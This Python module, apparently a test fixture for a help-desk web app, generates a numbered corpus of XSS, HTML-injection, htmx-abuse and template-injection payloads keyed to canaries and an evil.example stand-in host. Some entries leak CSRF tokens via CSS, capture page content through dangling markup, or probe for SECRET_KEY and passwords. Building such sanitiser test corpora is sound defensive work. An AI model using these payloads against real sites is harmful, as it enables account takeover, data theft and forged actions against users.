"""Payloads: what an attacker might write to a desk so that something runs, loads or leads away.

Each has a number of its own. One that runs calls `canary(number)`; one that loads asks a host below
`evil.example` of its own. So whatever comes through says which it was.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass
from itertools import count
from urllib.parse import quote

HOST = "evil.example"

# One a line. {js} calls the canary, {url} is the payload's own host, ␤ breaks a line within a payload.
_TAGS = """
<script>{js}</script>
<SCRIPT>{js}</SCRIPT>
<script src={url}/x.js></script>
<script/src={url}/x.js></script>
<script type=module>{js}</script>
<script type=module>import "{url}/m.js"</script>
<script>{js}//<</script>
<<script>{js}//<</script>
<scr<script>ipt>{js}</scr</script>ipt>
<script >{js}</script >
<script\t>{js}</script␤>
<script x='>'>{js}</script>
<script>/*</script><script>*/{js}</script>
<x><script>{js}</script></x>
</p><script>{js}</script>
<script async defer src="//n{n}.evil.example/x.js"></script>
<script type="importmap">{{"imports":{{"a":"{url}/a.js"}}}}</script>
<script type=speculationrules>{{"prerender":[{{"urls":["{url}/pre"]}}]}}</script>
<link rel=stylesheet href={url}/l.css>
<link rel=import href={url}/i.html>
<link rel=preload as=script href={url}/p.js>
<link rel=prefetch href={url}/p>
<link rel=modulepreload href={url}/p.js>
<link rel=dns-prefetch href=//n{n}.evil.example>
<link rel=preconnect href={url}>
<link rel=icon href={url}/i.ico>
<link rel=manifest href={url}/m.json>
<base href={url}/><a href=x>x</a>
<base target=_top href="javascript:/x/">
<meta http-equiv=refresh content="0;url={url}/r">
<meta http-equiv=refresh content="0;url=javascript:{js}">
<meta http-equiv=refresh content="0;url=data:text/html,<script>{js}</script>">
<META HTTP-EQUIV="Set-Cookie" CONTENT="sessionid={n}">
<meta http-equiv="Content-Security-Policy" content="script-src 'none'; report-uri {url}/csp">
<meta name=referrer content=unsafe-url><img src={url}/ref.gif>
<meta http-equiv=x-dns-prefetch-control content=on>
"""

_LOADS = """
<img src={url}/p.gif>
<img src="//n{n}.evil.example/p.gif" width=1 height=1>
<img srcset="{url}/p.gif 1x, {url}/q.gif 2x">
<img src=x: srcset="{url}/p.gif 500w" sizes=100vw>
<img lowsrc={url}/l.gif dynsrc={url}/d.gif src={url}/s.gif>
<img src="\\\\n{n}.evil.example\\p.gif">
<img src="ht␤tps://n{n}.evil.example/p.gif">
<img src="https:n{n}.evil.example/p.gif">
<img src=`{url}/p.gif`>
<image src={url}/p.gif>
<input type=image src={url}/p.gif>
<picture><source srcset={url}/p.webp><img src=x:></picture>
<video src={url}/v.mp4 autoplay></video>
<video poster={url}/p.png></video>
<video><source src={url}/v.mp4></video>
<video><track default kind=captions src={url}/t.vtt></video>
<audio src={url}/a.mp3 autoplay></audio>
<audio><source src={url}/a.ogg></audio>
<body background={url}/b.png>
<table background={url}/b.png><tr><td>x</td></tr></table>
<table><tr><td background={url}/b.png>x</td></tr></table>
<div style="background:url({url}/b.png)">x</div>
<div style="background-image:image-set('{url}/b.png' 1x)">x</div>
<div style="b\\61ckground:u\\72l({url}/b.png)">x</div>
<ul style="list-style:url({url}/l.png)"><li>x</ul>
<div style="cursor:url({url}/c.cur),auto">x</div>
<div style="border-image:url({url}/b.png) 1">x</div>
<div style="mask:url({url}/m.svg#m)">x</div>
<div style="filter:url({url}/f.svg#f)">x</div>
<p style="content:url({url}/c.png)">x</p>
<q style="shape-outside:url({url}/s.png);float:left">x</q>
<div style="width:expression({js})">x</div>
<div style="-moz-binding:url({url}/x.xml#x)">x</div>
<div style="behavior:url({url}/x.htc)">x</div>
<div style="position:fixed;inset:0;z-index:9999;background:#fff"><a href={url}/overlay>Sign in again</a></div>
<style>@import url({url}/i.css);</style>
<style>@import "{url}/i.css";</style>
<style>@im\\port'\\{url}/i.css';</style>
<style>body{{background:url({url}/b.png)}}</style>
<style>*{{background:url({url}/b.png)}}</style>
<style>@font-face{{font-family:x;src:url({url}/f.woff)}}*{{font-family:x}}</style>
<style>input[name=csrfmiddlewaretoken][value^=a]{{background:url({url}/a)}}</style>
<style>body::after{{content:url({url}/c.png)}}</style>
<iframe src={url}/f></iframe>
<iframe src="//n{n}.evil.example/f"></iframe>
<iframe src="javascript:parent.{js}"></iframe>
<iframe src="data:text/html,<script>parent.{js}</script>"></iframe>
<iframe srcdoc="<script>parent.{js}</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.{js}&lt;/script&gt;"></iframe>
<iframe srcdoc="&lt;img src={url}/p.gif&gt;"></iframe>
<iframe onload={js}></iframe>
<frameset><frame src={url}/f></frameset>
<frameset onload={js}><frame></frameset>
<object data={url}/o.html></object>
<object data="javascript:{js}"></object>
<object data="data:text/html;base64,{b64}"></object>
<object type=text/html data={url}/o></object>
<embed src={url}/e.svg>
<embed src="javascript:{js}">
<embed src="data:image/svg+xml;base64,{b64svg}">
<applet code=x archive={url}/x.jar></applet>
<portal src={url}/p></portal>
<bgsound src={url}/b.wav>
<layer src={url}/l></layer>
<ilayer src={url}/l></ilayer>
"""

_LINKS = """
<a href="javascript:{js}">x</a>
<a href="JaVaScRiPt:{js}">x</a>
<a href=" javascript:{js}">x</a>
<a href="&#1;javascript:{js}">x</a>
<a href="java&#10;script:{js}">x</a>
<a href="java&Tab;script:{js}">x</a>
<a href="java&NewLine;script&colon;{js}">x</a>
<a href="&#106;avascript:{js}">x</a>
<a href="&#x6a&#x61vascript:{js}">x</a>
<a href="&#0000106&#0000097vascript:{js}">x</a>
<a href="javascript&#58;{js}">x</a>
<a href="javascript&#x3A;{js}">x</a>
<a href="javascript://%0a{js}">x</a>
<a href="javascript:{pct}">x</a>
<a href="feed:javascript:{js}">x</a>
<a href="view-source:javascript:{js}">x</a>
<a href="jar:javascript:{js}!/">x</a>
<a href="vbscript:{js}">x</a>
<a href="livescript:{js}">x</a>
<a href="mocha:{js}">x</a>
<a href="data:text/html,<script>{js}</script>">x</a>
<a href="data:text/html;base64,{b64}">x</a>
<a href="data:image/svg+xml;base64,{b64svg}">x</a>
<a href="blob:{url}/x">x</a>
<a href="filesystem:{url}/x">x</a>
<a href="file:///etc/passwd?{n}">x</a>
<a href="//n{n}.evil.example/x">x</a>
<a href="/sign-out?{n}">x</a>
<a href="/tickets/{n}/close">x</a>
<a href="{url}/x" ping="{url}/ping">x</a>
<a href="{url}/x" download>x</a>
<a href="{url}/x" target=_top>x</a>
<a href="{url}/x" attributionsrc="{url}/a">x</a>
<a href="https://desk@n{n}.evil.example/x">x</a>
<a href="\u202ehttps://n{n}.evil.example/x">x</a>
<area href="javascript:{js}">
<map name=m{n}><area shape=default href="javascript:{js}"></map><img usemap=#m{n} src={url}/m.gif>
<form action={url}/f><input name=p><button autofocus>x</button></form>
<form action="javascript:{js}"><button>x</button></form>
<form id=f{n}></form><button form=f{n} formaction="javascript:{js}">x</button>
<form><input type=submit formaction={url}/f></form>
<button formaction={url}/f>x</button>
<form action=/sign-out method=post><button>x</button></form>
<form action=/bulk method=post><input name=ticket value={n}><button>x</button></form>
<isindex action=javascript:{js} type=image>
<keygen autofocus onfocus={js}>
"""

_HANDLERS = """
<img src=x: onerror={js}>
<img src=x: onerror="{js}">
<img src=x: onerror='{js}'>
<img src=x: onerror=`{js}`>
<img/src=x:/onerror={js}>
<img src=x:\x0conerror={js}>
<img src=x: onerror␤=␤{js}>
<img src=x: OnErRoR={js}>
<img src=x: oneonerrorrror={js} onerror={js}>
<img \"\"\"><img src=x: onerror={js}>
<img src="x:` `<script>{js}</script>"` `>
<img src=x: onerror=&#99;anary({n})>
<img src=x: onerror="\\u0063anary({n})">
<img src=x: onerror="window['can'+'ary']({n})">
<img src=x: onerror="top.{js}">
<img src=x: onerror="alert({n})">
<img src=x: onerror="location='{url}/go'">
<img src=x: onerror="fetch('{url}/fetch')">
<img src=x: onerror="new Image().src='{url}/beacon'">
<img src=x: onerror="navigator.sendBeacon('{url}/beacon')">
<img src=x: onerror="document.write('<script>{js}</scr'+'ipt>')">
<img src=x: onerror="open('{url}/popup')">
<body onload={js}>
<body onpageshow={js}>
<body onfocus={js}>
<body onresize={js}>
<body onhashchange={js}>
<body onmessage={js}>
<input autofocus onfocus={js}>
<select autofocus onfocus={js}></select>
<textarea autofocus onfocus={js}></textarea>
<a id=x{n} tabindex=1 autofocus onfocus={js}>x</a>
<details open ontoggle={js}>x</details>
<video oncanplay={js} src={url}/v.mp4></video>
<video onerror={js}><source src=x:></video>
<audio src=x: onerror={js}></audio>
<marquee onstart={js}>x</marquee>
<div onmouseover={js}>x</div>
<div onpointerenter={js} style="position:fixed;inset:0">x</div>
<div onscrollend={js}>x</div>
<div onwheel={js}>x</div>
<p onanimationstart={js} style="animation:x">x</p>
<style>@keyframes k{n}{{}}</style><p style="animation-name:k{n}" onanimationend={js}>x</p>
<p style="transition:color 1s" ontransitionend={js}>x</p>
<div popover id=pop{n} onbeforetoggle={js}>x</div><button popovertarget=pop{n}>x</button>
<div contenteditable onbeforeinput={js}>x</div>
<dialog open onclose={js}><form method=dialog><button>x</button></form></dialog>
<object data=x: onerror={js}></object>
<link rel=stylesheet href=x: onerror={js}>
<script src=x: onerror={js}></script>
<style onload={js}></style>
<table><td onclick={js}>x</td></table>
<custom-element{n} onfocus={js} tabindex=0 autofocus>x</custom-element{n}>
<b onclick={js} accesskey=r>x</b>
"""

_FOREIGN = """
<svg onload={js}>
<svg/onload={js}>
<svg><script>{js}</script></svg>
<svg><script href={url}/x.js /></svg>
<svg><script xlink:href="data:,{js}" /></svg>
<svg><script>&#99;anary({n})</script></svg>
<svg><g onload={js}></g></svg>
<svg><image href={url}/i.png /></svg>
<svg><image xlink:href={url}/i.png onerror={js} /></svg>
<svg><feImage href={url}/i.png /></svg>
<svg><use href="{url}/u.svg#x" /></svg>
<svg><use href="data:image/svg+xml;base64,{b64svg}#x" /></svg>
<svg><a xlink:href="javascript:{js}"><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values="javascript:{js}" /><text y=20>x</text></a></svg>
<svg><animate onbegin={js} attributeName=x dur=1s />
<svg><set attributeName=onmouseover to={js} />
<svg><style>@import url({url}/s.css);</style></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.{js}</script>"></iframe></foreignObject></svg>
<svg><desc><![CDATA[</desc><script>{js}</script>]]></svg>
<svg><title><img src=x: onerror={js}></title></svg>
<svg></p><style><a id="</style><img src=x: onerror={js}>">
<svg><p><style><g title="</style><img src=x: onerror={js}>">
<math><mi xlink:href="javascript:{js}">x</mi></math>
<math href="javascript:{js}">x</math>
<math><maction actiontype="statusline#{url}" xlink:href="javascript:{js}">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x: onerror={js}></annotation-xml></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror={js}&gt;">
<math><mtext><mglyph><style><math><img src=x: onerror={js}></style></mglyph></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror={js}>
<math><mi//xlink:href="data:x,<script>{js}</script>">
<noscript><p title="</noscript><img src=x: onerror={js}>">
<noscript><!--</noscript><img src=x: onerror={js}>-->
<noscript><style></noscript><img src=x: onerror={js}></style>
<template><script>{js}</script></template>
<template shadowrootmode=open><img src=x: onerror={js}></template>
<template><template></template><img src=x: onerror={js}></template>
<textarea><img title="</textarea><img src=x: onerror={js}>">
<title><a title="</title><img src=x: onerror={js}>">
<style><a title="</style><img src=x: onerror={js}>">
<xmp><p title="</xmp><img src=x: onerror={js}>">
<noembed><p title="</noembed><img src=x: onerror={js}>">
<noframes><p title="</noframes><img src=x: onerror={js}>">
<iframe><p title="</iframe><img src=x: onerror={js}>">
<select><option><img src=x: onerror={js}></select>
<select><template><img src=x: onerror={js}></template></select>
<table><caption><svg><title><style></title><img src=x: onerror={js}></style></svg></caption></table>
<table><a><tr><td><img src=x: onerror={js}></a></table>
<!--><img src=x: onerror={js}>-->
<!--><script>{js}</script>
<!--!><img src=x: onerror={js}>
<!-- --!><img src=x: onerror={js}>
<![CDATA[<script>{js}</script>]]>
<?xml-stylesheet href="javascript:{js}"?>
<?php echo '<script>{js}</script>' ?>
<!DOCTYPE x [<!ENTITY x SYSTEM "{url}/x">]><x>&x;</x>
<!--[if gte IE 4]><script>{js}</script><![endif]-->
<plaintext><script>{js}</script>
<listing>&lt;img src=x: onerror={js}&gt;</listing>
<a title="`&quot;><img src=x: onerror={js}>">x</a>
<b title="&lt;script&gt;{js}&lt;/script&gt;">x</b>
&lt;script&gt;{js}&lt;/script&gt;
&amp;lt;script&amp;gt;{js}&amp;lt;/script&amp;gt;
&#60;img src=x: onerror={js}&#62;
\uff1cscript\uff1e{js}\uff1c/script\uff1e
\u2039script\u203a{js}\u2039/script\u203a
%3Cscript%3E{js}%3C/script%3E
\\u003cscript\\u003e{js}\\u003c/script\\u003e
<scr\u200bipt>{js}</scr\u200bipt>
<\x00script>{js}</\x00script>
<img\x0bsrc=x: onerror={js}>
<ſcript>{js}</ſcript>
"""

_OURS = """
<div hx-get={url}/hx hx-trigger=load>x</div>
<div data-hx-get={url}/hx data-hx-trigger=load>x</div>
<div hx-post=/sign-out hx-trigger=load>x</div>
<div data-hx-post=/bulk data-hx-trigger="every 1s">x</div>
<div hx-on:click={js}>x</div>
<div hx-on::load={js}>x</div>
<div data-hx-on--load={js}>x</div>
<div hx-on="load: {js}">x</div>
<div hx-trigger="load[{js}]" hx-get=/healthz>x</div>
<div hx-vals="js:{{a:{js}}}" hx-get=/healthz hx-trigger=load>x</div>
<div hx-headers='js:{{"a":{js}}}' hx-get=/healthz hx-trigger=load>x</div>
<div hx-disinherit=* hx-boost=true><a href={url}/x>x</a></div>
<div hx-ext=x hx-ws="connect:wss://n{n}.evil.example/">x</div>
<div hx-sse="connect:{url}/s">x</div>
<div hx-swap-oob=true id=rows>x</div>
<div id=queue hx-swap-oob=innerHTML>x</div>
<meta name=htmx-config content='{{"selfRequestsOnly":false,"allowEval":true}}'>
<iframe data-src={url}/f></iframe>
<details class=whole open><summary>x</summary><iframe data-src={url}/f></iframe></details>
<img data-src={url}/p.gif>
<a data-ticket={n} href={url}/x>x</a>
<form id=reply action={url}/f><input id=text name=text></form>
<a id=queue><a id=queue name=rows href={url}/x>x</a>
<img name=getElementById src={url}/p.gif>
<img name=querySelector id=htmx src={url}/p.gif>
<form name=document><input name=cookie></form>
<form id=body><input name=children></form>
<div id=act>x</div><div id=order-top>x</div><div id=main>x</div>
<input name=csrfmiddlewaretoken value={n}>
<p class="pop sheet bulk" data-keys=r data-live={url}/x>x</p>
<body id=head data-live={url}/x>
<output for=text>x</output><label for=text>x</label>
{{{{ 7919|add:{n} }}}}{{% load static %}}{{% csrf_token %}}
{{{{7919*7}}}}
{{% include "base.html" %}}{{% debug %}}
{{{{request.user.password}}}}{{{{settings.SECRET_KEY}}}}
${{7919*7}}#{{7919*7}}
<%= 7919*7 %>
{{{{constructor.constructor('{js}')()}}}}
#set($x=7919*7)$x
%(subject)s {{0.__class__}} {{n.__init__.__globals__}}
"""

_BREAKOUTS = """
"><script>{js}</script>
'><script>{js}</script>
><script>{js}</script>
" onmouseover={js} x="
' onfocus={js} autofocus x='
" autofocus onfocus={js} "
`onmouseover={js}`
" style="background:url({url}/b)" x="
" hx-get="{url}/hx" hx-trigger="load" x="
" srcdoc="<script>parent.{js}</script>
</title><script>{js}</script>
</textarea><script>{js}</script>
</option></select><img src=x: onerror={js}>
</summary></details><img src=x: onerror={js}>
</button><img src=x: onerror={js}>
</pre><img src=x: onerror={js}>
</script><script>{js}</script>
--><script>{js}</script>
]]><script>{js}</script>
"><img src="{url}/dangling?
'><img src='{url}/dangling?
<img src='{url}/dangling?
<a href={url}/x><base target="
<textarea form=reply name=leak>
<option><style>
";{js};//
';{js};//
\\";{js};//
`+{js}+`
javascript:{js}
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+{js}//'>
jaVasCript:/*-/*`/*\\`/*'/*"/**/(/* */oNcliCk={js} )//%0D%0A//</stYle/</titLe/--!><sVg/<sVg/oNloAd={js}//>
\u202e<script>{js}</script>
\u2028<script>{js}</script>
A\r␤\r␤<script>{js}</script>
"""

FAMILIES = {
    "tags": _TAGS,
    "loads": _LOADS,
    "links": _LINKS,
    "handlers": _HANDLERS,
    "foreign": _FOREIGN,
    "ours": _OURS,
    "breakouts": _BREAKOUTS,
}


@dataclass(frozen=True)
class Payload:
    """One attack: its number, its family, and its text."""

    number: int
    family: str
    text: str


def corpus() -> list[Payload]:
    """Return every payload, each with its own number."""
    numbers = count(1)
    return [
        Payload(number := next(numbers), family, _filled(line, number))
        for family, lines in FAMILIES.items()
        for line in lines.strip().split("\n")
    ]


def _filled(line: str, number: int) -> str:
    js = f"canary({number})"
    script = f"<script>parent.{js}</script>"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" id="x" onload="parent.{js}"/>'
    return line.replace("␤", "\n").format(
        n=number,
        js=js,
        url=f"https://n{number}.{HOST}",
        pct=quote(js, safe=""),
        b64=base64.b64encode(script.encode()).decode(),
        b64svg=base64.b64encode(svg.encode()).decode(),
    )
